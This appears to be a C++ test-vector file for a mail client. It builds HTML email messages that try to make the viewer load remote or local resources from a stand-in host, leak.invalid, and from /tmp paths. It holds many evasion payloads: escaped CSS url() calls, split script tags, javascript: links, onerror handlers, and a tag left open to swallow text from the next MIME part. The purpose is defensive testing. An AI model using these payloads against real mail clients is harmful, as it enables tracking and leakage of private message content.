// SPDX-License-Identifier: GPL-3.0-or-later
#include "leakvectors.h"

#include <array>

namespace godwit {

namespace {

/// Where things could be fetched from. %1 is what makes each one its own.
QByteArrayList addresses()
{
    return {"http://leak.invalid/%1",
            "HTTPS://leak.invalid/%1",
            "//leak.invalid/%1",
            "file:///tmp/leak-%1",
            "/tmp/leak-%1",
            "../../../tmp/leak-%1",
            "ftp://leak.invalid/%1",
            "\\\\leak.invalid\\%1",
            "smb://leak.invalid/%1",
            "qrc:/leak/%1",
            ":/leak/%1",
            "cid:svg@leak",
            "cid:html@leak",
            "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='http://leak.invalid/%1'/></svg>",
            " \t http://leak.invalid/%1",
            "ht\ntp://leak.invalid/%1",
            "http://bank.example@leak.invalid/%1",
            "http:&#x2F;&#47;leak.invalid/%1",
            "image://leak/%1",
            "jar:file:///tmp/leak-%1!/x"};
}

struct Form {
    const char *name;
    const char *html; ///< %1: the address
};

/// Elements that load something by themselves.
const std::array<Form, 34> elements{{
    {"img", "<img src=\"%1\">"},
    {"img in capitals", "<IMG SRC='%1' WIDTH=200>"},
    {"img unquoted", "<img src=%1 >"},
    {"img srcset", "<img srcset=\"%1 1x, %1 2x\">"},
    {"img lowsrc", "<img lowsrc=\"%1\" dynsrc=\"%1\" longdesc=\"%1\">"},
    {"image", "<image src=\"%1\">"},
    {"picture", "<picture><source srcset=\"%1\"><img src=\"%1\"></picture>"},
    {"video", "<video src=\"%1\" poster=\"%1\" autoplay><source src=\"%1\"></video>"},
    {"audio", "<audio src=\"%1\" autoplay><track src=\"%1\"></audio>"},
    {"object", "<object data=\"%1\" codebase=\"%1\"><param name=movie value=\"%1\"></object>"},
    {"embed", "<embed src=\"%1\">"},
    {"applet", "<applet archive=\"%1\" code=\"%1\"></applet>"},
    {"iframe", "<iframe src=\"%1\"></iframe>"},
    {"iframe srcdoc", "<iframe srcdoc='<img src=\"%1\">'></iframe>"},
    {"frameset", "<frameset><frame src=\"%1\"></frameset>"},
    {"link stylesheet", "<link rel=stylesheet type=\"text/css\" href=\"%1\">"},
    {"link prefetch", "<link rel=\"prefetch dns-prefetch preconnect icon\" href=\"%1\">"},
    {"meta refresh", "<meta http-equiv=refresh content=\"0; url=%1\">"},
    {"base", "<base href=\"%1\"><img src=x.png><a href=y>y</a>"},
    {"body background", "<body background=\"%1\">x</body>"},
    {"table background", "<table background=\"%1\"><tr background=\"%1\"><td background=\"%1\">x</td></tr></table>"},
    {"input image", "<form action=\"%1\"><input type=image src=\"%1\"><button formaction=\"%1\">x</button></form>"},
    {"svg image", "<svg><image xlink:href=\"%1\" href=\"%1\"/><use href=\"%1\"/></svg>"},
    {"svg style", "<svg><style>@import '%1';</style><foreignObject><img src=\"%1\"></foreignObject></svg>"},
    {"math", "<math><maction xlink:href=\"%1\">x</maction></math>"},
    {"script", "<script src=\"%1\"></script>"},
    {"split script", "<sc<script></script>ript src=\"%1\"></script><img src=\"%1\">"},
    {"noscript", "<noscript><img src=\"%1\"></noscript>"},
    {"template", "<template><img src=\"%1\"></template>"},
    {"comment for Outlook", "<!--[if mso]><v:image src=\"%1\"/><![endif]--><v:fill src=\"%1\"/>"},
    {"xml stylesheet", "<?xml-stylesheet href=\"%1\"?><!DOCTYPE html SYSTEM \"%1\">x"},
    {"background sound", "<bgsound src=\"%1\"><layer src=\"%1\"><ilayer src=\"%1\">"},
    {"link with ping", "<a href=\"#\" ping=\"%1\">x</a><area href=\"#\" ping=\"%1\">"},
    {"left open", "<p>x</p><img src=\"%1"},
}};

/// Style sheets and styles; each is tried with the first addresses.
const std::array<Form, 22> styles{{
    {"background", "<div style=\"background:url(%1)\">x</div>"},
    {"background-image", "<div style=\"background-image:url('%1')\">x</div>"},
    {"escaped url", "<div style=\"background:\\75 \\72 \\6C(%1)\">x</div>"},
    {"escaped in full", "<div style=\"background:\\000075\\000072\\00006c('%1')\">x</div>"},
    {"with comments", "<div style=\"back/**/ground:u/**/rl(%1);background:/**/url(/**/%1)\">x</div>"},
    {"list-style-image", "<ul style=\"list-style:square url(%1)\"><li style=\"list-style-image:url(%1)\">x</ul>"},
    {"border-image", "<div style=\"border:1px solid;border-image:url(%1) 30\">x</div>"},
    {"cursor", "<a href=\"#\" style=\"cursor:url(%1),auto\">x</a>"},
    {"content", "<style>p:before { content: url(%1) }</style><p>x</p>"},
    {"filter", "<div style=\"filter:url(%1#x);-webkit-mask:url(%1);clip-path:url(%1)\">x</div>"},
    {"behavior", "<div style=\"behavior:url(%1);-moz-binding:url(%1)\">x</div>"},
    {"import", "<style>@import url(%1);</style><p>x</p>"},
    {"import as text", "<style>@import \"%1\" screen;</style><p>x</p>"},
    {"escaped import", "<style>@\\69mport url(%1);</style><p>x</p>"},
    {"import in media", "<style>@media screen { @import url(%1); p { background: url(%1) } }</style><p>x</p>"},
    {"font-face", "<style>@font-face { font-family: x; src: url(%1) } p { font-family: x }</style><p>x</p>"},
    {"namespace", "<style>@namespace url(%1); @document url(%1) { p { color: red } }</style><p>x</p>"},
    {"image-set", "<div style=\"background:image-set('%1' 1x);background:-webkit-image-set(url(%1) 1x)\">x</div>"},
    {"font family", "<span style=\"font-family:'%1'\">x</span><font face=\"%1\">y</font>"},
    {"variable", "<style>:root { --a: url(%1) } p { background: var(--a) }</style><p>x</p>"},
    {"broken out of", "<span style=\"font-family:x'/><img src=%1>\">x</span>"},
    {"end of sheet", "<style>p { color: red </style><img src=\"%1\"><style> } p { background: url(%1) }</style><p>x</p>"},
}};

/// Links, which load nothing until they are followed, and some never.
const std::array<Form, 12> links{{
    {"link", "<a href=\"%1\">x</a>"},
    {"link around a picture", "<a href=\"%1\"><img src=\"%1\" alt=\"y\"></a>"},
    {"javascript link", "<a href=\"javascript:location='%1'\">x</a>"},
    {"vbscript link", "<a href=\"vbscript:x('%1')\">x</a><a href=\"data:text/html,<img src=%1>\">y</a>"},
    {"link that names another", "<a href=\"%1\">https://www.bank.example/</a>"},
    {"handlers", "<p onclick=\"open('%1')\" onmouseover=\"open('%1')\">x</p><img src=x onerror=\"open('%1')\">"},
    {"map", "<img src=\"%1\" usemap=\"#m\"><map name=m><area shape=default href=\"%1\"></map>"},
    {"id and name", "<a id=\"%1\" name=\"%1\">x</a><p title=\"%1\">y</p>"},
    {"class", "<p class=\"%1\" data-src=\"%1\" lang=\"%1\">y</p>"},
    {"list type", "<ul type=\"%1\"><li>x</ul><ol start=\"%1\"><li>y</ol>"},
    {"colours", "<p style=\"color:%1\">x</p><font color=\"%1\">y</font><table bgcolor=\"%1\"><tr><td align=\"%1\" width=\"%1\">z</table>"},
    {"sizes", "<img src=\"cid:none\" width=\"%1\" height=\"%1\" alt=\"x\" align=\"%1\"><hr width=\"%1\">"},
}};

QByteArray messageOf(const QByteArray &html)
{
    return "From: x@leak.invalid\r\nSubject: <img src=\"http://leak.invalid/subject\">\r\nContent-Type: multipart/related; "
           "boundary=b\r\n\r\n--b\r\n"
           "Content-Type: text/html; charset=utf-8\r\n\r\n" +
           html +
           "\r\n--b\r\nContent-Type: image/svg+xml\r\nContent-ID: <svg@leak>\r\n\r\n<svg xmlns=\"http://www.w3.org/2000/svg\"><image "
           "href=\"http://leak.invalid/svg\"/></svg>\r\n--b\r\nContent-Type: image/png\r\nContent-ID: <html@leak>\r\n\r\n<html><img "
           "src=\"http://leak.invalid/html\"></html>\r\n--b--\r\n";
}

/// An element left open in one part must not swallow what the next one says.
QByteArray acrossParts(const QByteArray &address)
{
    return "From: x@leak.invalid\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>one</p><img "
           "src=\"" +
           address +
           "?\r\n--b\r\nContent-Type: text/plain\r\n\r\nsecret words of another part\r\n--b\r\nContent-Type: "
           "text/html\r\n\r\n\"><p>three</p>\r\n--b--\r\n";
}

} // namespace

std::vector<LeakVector> leakVectors()
{
    std::vector<LeakVector> all;
    const QByteArrayList every = addresses();
    const auto add = [&](const Form &form, const QByteArray &pattern) {
        QByteArray address = pattern;
        address.replace("%1", QByteArray::number(qsizetype(all.size())));
        QByteArray html = form.html;
        html.replace("%1", address);
        all.push_back({QByteArray(form.name) + ", " + pattern.left(40), messageOf(html)});
    };
    for (const QByteArray &address : every) {
        add(elements[0], address);
        add(styles[0], address);
        add(links[1], address);
    }
    for (const Form &form : elements)
        for (const char *address : {"http://leak.invalid/%1", "file:///tmp/leak-%1", "//leak.invalid/%1", "/tmp/leak-%1"})
            add(form, address);
    for (const Form &form : styles)
        for (const char *address : {"http://leak.invalid/%1", "file:///tmp/leak-%1", "/tmp/leak-%1"}) add(form, address);
    for (const Form &form : links)
        for (const char *address : {"http://leak.invalid/%1", "file:///tmp/leak-%1", "//leak.invalid/%1"}) add(form, address);
    for (const QByteArray &address : {QByteArray("http://leak.invalid/parts"), QByteArray("file:///tmp/leak-parts")})
        all.push_back({"across parts, " + address, acrossParts(address)});
    return all;
}

} // namespace godwit
